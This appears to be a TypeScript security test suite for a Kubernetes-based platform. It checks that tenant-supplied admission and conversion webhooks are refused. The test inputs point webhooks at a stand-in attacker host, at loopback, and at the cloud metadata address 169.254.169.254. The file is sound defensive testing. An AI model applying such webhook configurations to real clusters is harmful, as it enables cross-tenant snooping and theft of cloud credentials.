/** Admission and conversion webhooks that the embedded cluster calls: addresses that strangers write. */
import assert from "node:assert/strict";
import { countingListener } from "@capstan/testkit";
import type { Attack, AttackWorld } from "../attack.ts";
import { deploys } from "../deploy.ts";

const limit = (): AbortSignal => AbortSignal.timeout(60_000);

const configuration = (name: string, url: string, namespace: string): string =>
  JSON.stringify({
    apiVersion: "admissionregistration.k8s.io/v1",
    kind: "ValidatingWebhookConfiguration",
    metadata: { name },
    webhooks: [
      {
        name: `${name}.example.com`,
        clientConfig: { url },
        rules: [{ operations: ["CREATE"], apiGroups: [""], apiVersions: ["v1"], resources: ["configmaps"] }],
        namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": namespace } },
        sideEffects: "None",
        admissionReviewVersions: ["v1"],
      },
    ],
  });

/** Written by whoever may: an application of a project that permits the kind. Tells what a change is refused with. */
async function refusalBy({ capstan }: AttackWorld, name: string, url: string): Promise<string> {
  const { kube } = capstan;
  const signal = limit();
  await kube.create({ apiVersion: "v1", kind: "Namespace", metadata: { name } }, { signal });
  await kube.create(JSON.parse(configuration(name, url, name)), { signal });
  try {
    const object = { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "probe", namespace: name } };
    return await kube.create(object, { signal }).then(
      () => "created",
      (error: unknown) => String(error),
    );
  } finally {
    const apiVersion = "admissionregistration.k8s.io/v1";
    await kube.delete({ apiVersion, kind: "ValidatingWebhookConfiguration", name }, { signal });
  }
}

const definition = (url: string): object => ({
  apiVersion: "apiextensions.k8s.io/v1",
  kind: "CustomResourceDefinition",
  metadata: { name: "things.conversion.evil.example" },
  spec: {
    group: "conversion.evil.example",
    scope: "Cluster",
    names: { plural: "things", kind: "Thing" },
    conversion: {
      strategy: "Webhook",
      webhook: { conversionReviewVersions: ["v1"], clientConfig: { url } },
    },
    versions: ["v1", "v2"].map((name) => ({
      name,
      served: true,
      storage: name === "v1",
      schema: { openAPIV3Schema: { type: "object" } },
    })),
  },
});

/** What writing in the version that is not stored is refused with. */
async function conversionRefusal({ capstan }: AttackWorld, url: string): Promise<string> {
  const { kube } = capstan;
  const signal = limit();
  const made = await kube.create(JSON.parse(JSON.stringify(definition(url))), { signal });
  try {
    const object = { apiVersion: "conversion.evil.example/v2", kind: "Thing", metadata: { name: "probe" } };
    return await kube.create(object, { signal }).then(
      () => "created",
      (error: unknown) => String(error),
    );
  } finally {
    const { apiVersion, kind } = made;
    await kube.delete({ apiVersion, kind, name: "things.conversion.evil.example" }, { signal });
  }
}

export const attacks: readonly Attack[] = [
  {
    id: "admission-webhooks/written-by-a-tenant",
    threat: "An application brings an admission webhook, which would see every object of every tenant",
    heldBy: "the project's clusterResourceWhitelist decides on cluster-scoped kinds",
    play: deploys("admission-hook", {
      files: () => ({ "app/hook.yaml": configuration("admission-hook", "https://evil.example/", "rival-a") }),
      ends: { refused: /ValidatingWebhookConfiguration is not permitted in project team/ },
    }),
  },
  {
    id: "admission-webhooks/a-server-of-this-machine",
    threat: "The address of an admission webhook leads to a server of the machine on which Capstan runs",
    heldBy:
      "loopback, link-local and metadata addresses are refused by name and by address; the loopback is called only with a caBundle, which such a server's certificate is not of",
    play: async (world) => {
      using server = await countingListener();
      const told = await refusalBy(world, "hook-to-loopback", `https://127.0.0.1:${server.port}/x`);
      assert.match(told, /an address of this machine or of its surroundings alone/);
      assert.equal(server.connections(), 0);
      await world.assertUnharmed([told]);
    },
  },
  {
    id: "admission-webhooks/a-conversion-by-a-server-of-this-machine",
    threat:
      "The conversion webhook of a CustomResourceDefinition leads to a server of this machine, or to a metadata service",
    heldBy: "the rules of admission webhooks' addresses: one way to call both",
    play: async (world) => {
      using server = await countingListener();
      for (const url of [`https://127.0.0.1:${server.port}/x`, "https://169.254.169.254/latest/meta-data/"]) {
        const told = await conversionRefusal(world, url);
        assert.match(told, /an address of this machine or of its surroundings alone/);
        await world.assertUnharmed([told]);
      }
      assert.equal(server.connections(), 0);
    },
  },
  {
    id: "admission-webhooks/the-metadata-service",
    threat: "The address of an admission webhook is a cloud's metadata service",
    heldBy: "loopback, link-local and metadata addresses are refused by name and by address",
    play: async (world) => {
      const told = await refusalBy(world, "hook-to-metadata", "https://169.254.169.254/latest/meta-data/");
      assert.match(told, /an address of this machine or of its surroundings alone/);
      await world.assertUnharmed([told]);
    },
  },
];
